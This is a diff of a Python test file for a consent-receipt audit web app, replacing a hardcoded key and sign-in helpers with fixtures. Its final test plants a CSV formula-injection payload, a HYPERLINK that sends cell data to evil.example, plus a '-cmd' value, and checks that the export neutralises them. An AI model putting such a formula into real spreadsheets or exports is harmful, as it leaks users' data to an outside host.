@@ -14,24 +14,24 @@ from sqlalchemy import select, update
 from consent_app.extensions import db
 from consent_app.models import ActivityEntry, ConsentRecord
 from consent_app.services.visitor.self_service import VisitorKey, erase
+from consent_app.signing import hmac_key
 from tests.factories import (
+    AuthActions,
     make_record,
     make_records,
     make_site,
-    make_user,
     seal_all,
-    sign_in,
     subject,
 )
 
-KEY = "test-receipt-key-0123456789abcdef012"
-
 
 @pytest.fixture
-def auditor(app: Flask, client: FlaskClient) -> FlaskClient:
+def auditor(client: FlaskClient, auth: AuthActions) -> FlaskClient:
+    """The `client`, signed in as an auditor of two sites."""
     make_site()
     make_site("other", origins=("https://other.example",))
-    return sign_in(client, make_user("auditor"))
+    auth.login("auditor")
+    return client
 
 
 def accesses() -> list[tuple[str, str]]:
@@ -43,8 +43,8 @@ def accesses() -> list[tuple[str, str]]:
 
 
 def test_search_by_subject_finds_their_receipts(auditor: FlaskClient, app: Flask) -> None:
-    mine = make_record(KEY, subject_id=subject(1))
-    make_record(KEY, subject_id=subject(2))
+    mine = make_record(subject_id=subject(1))
+    make_record(subject_id=subject(2))
     page = auditor.get(f"/audit/?subject_id={subject(1)}").get_data(as_text=True)
     assert mine.receipt_id in page and subject(2) not in page
     assert "1 receipt found." in page
@@ -52,15 +52,13 @@ def test_search_by_subject_finds_their_receipts(auditor: FlaskClient, app: Flask
 
 
 def test_search_by_site_action_receipt_and_dates(auditor: FlaskClient, app: Flask) -> None:
-    old = make_record(KEY, now=datetime(2026, 1, 10, tzinfo=UTC), subject_id=subject(1))
+    old = make_record(now=datetime(2026, 1, 10, tzinfo=UTC), subject_id=subject(1))
     new = make_record(
-        KEY,
         subject_id=subject(2),
         choices={"functionality": False, "advertising": False},
         action="reject_all",
     )
     other = make_record(
-        KEY,
         site="other",
         origin="https://other.example",
         subject_id=subject(3),
@@ -87,7 +85,7 @@ def test_search_by_site_action_receipt_and_dates(auditor: FlaskClient, app: Flas
 
 
 def test_results_are_paginated(auditor: FlaskClient, app: Flask) -> None:
-    make_records(KEY, 55)
+    make_records(55)
     first = auditor.get("/audit/").get_data(as_text=True)
     assert "Page 1 of 2" in first and "page=2" in first
     second = auditor.get("/audit/?page=2").get_data(as_text=True)
@@ -113,7 +111,7 @@ def test_a_bad_search_shows_the_error_next_to_the_field(auditor, query: str, err
 
 
 def test_the_receipt_page_shows_fields_signature_and_proof(auditor: FlaskClient, app) -> None:
-    record = make_record(KEY)
+    record = make_record()
     seal_all(app)
     page = auditor.get(f"/audit/receipts/{record.receipt_id}").get_data(as_text=True)
     assert record.subject_id in page and record.leaf_hash in page
@@ -123,7 +121,7 @@ def test_the_receipt_page_shows_fields_signature_and_proof(auditor: FlaskClient,
 
 
 def test_the_receipt_page_flags_a_tampered_receipt(auditor: FlaskClient, app) -> None:
-    record = make_record(KEY)
+    record = make_record()
     db.session.execute(update(ConsentRecord).values(action="accept_all"))
     db.session.commit()
     page = auditor.get(f"/audit/receipts/{record.receipt_id}").get_data(as_text=True)
@@ -139,7 +137,7 @@ def test_an_unknown_receipt_page_is_404(auditor: FlaskClient) -> None:
     ("fmt", "mimetype"), [("jsonl", "application/x-ndjson"), ("csv", "text/csv")]
 )
 def test_export_streams_the_search_and_is_recorded(auditor, app, fmt: str, mimetype: str) -> None:
-    make_records(KEY, 3)
+    make_records(3)
     seal_all(app)
     # buffered: the test client reads the stream inside the request's own context
     response = auditor.get(f"/audit/export.{fmt}?subject_id={subject(1)}", buffered=True)
@@ -159,8 +157,8 @@ def test_an_unknown_export_format_is_404(auditor: FlaskClient) -> None:
 
 
 @pytest.mark.parametrize(("role", "status"), [("marketer", 403), ("admin", 200)])
-def test_only_auditors_and_admins_may_audit(app, client, role: str, status: int) -> None:
-    sign_in(client, make_user(role))
+def test_only_auditors_and_admins_may_audit(client, auth, role: str, status: int) -> None:
+    auth.login(role)
     assert client.get("/audit/").status_code == status
 
 
@@ -169,31 +167,31 @@ def test_anonymous_visitors_are_sent_to_sign_in(client: FlaskClient) -> None:
     assert response.status_code == 302 and "/auth/login" in response.headers["Location"]
 
 
-def test_admins_read_what_auditors_looked_at(auditor: FlaskClient, app, client) -> None:
-    record = make_record(KEY)
+def test_admins_read_what_auditors_looked_at(auditor: FlaskClient, auth, client) -> None:
+    record = make_record()
     auditor.get(f"/audit/receipts/{record.receipt_id}")
-    auditor.post("/auth/logout")
-    sign_in(client, make_user("admin"))
+    auth.logout()
+    auth.login("admin")
     page = client.get("/activity?kind=access").get_data(as_text=True)
     assert "receipt.view" in page and record.receipt_id in page
 
 
 def test_an_erased_receipt_page_says_so_and_still_proves_inclusion(auditor, app) -> None:
-    record = make_record(KEY)
+    record = make_record()
     seal_all(app)
-    erase(VisitorKey("shop", record.subject_id), signing_key=KEY)
+    erase(VisitorKey("shop", record.subject_id), signing_key=hmac_key())
     page = auditor.get(f"/audit/receipts/{record.receipt_id}").get_data(as_text=True)
     assert "Not applicable: the personal fields were erased" in page
     assert "Its leaf hash stays in the log." in page
     assert "position 0 in the signed tree of 1 receipts" in page
 
 
-def test_the_csv_export_defuses_a_hostile_controller_and_subject(app: Flask, client) -> None:
+def test_the_csv_export_defuses_a_hostile_controller_and_subject(app, client, auth) -> None:
     make_site(controller='=HYPERLINK("https://evil.example/?"&A1,"Open")')
-    make_record(KEY, subject_id="-cmdabcdefghijklmnop")
+    make_record(subject_id="-cmdabcdefghijklmnop")
     seal_all(app)
-    auditor = sign_in(client, make_user("auditor"))
-    text = auditor.get("/audit/export.csv?until=9999-12-31", buffered=True).get_data(True)
+    auth.login("auditor")
+    text = client.get("/audit/export.csv?until=9999-12-31", buffered=True).get_data(True)
     row = next(r for r in csv.DictReader(io.StringIO(text)) if r["type"] == "receipt")
     assert row["controller"] == """'=HYPERLINK("https://evil.example/?"&A1,"Open")"""
     assert row["subject_id"] == "'-cmdabcdefghijklmnop"
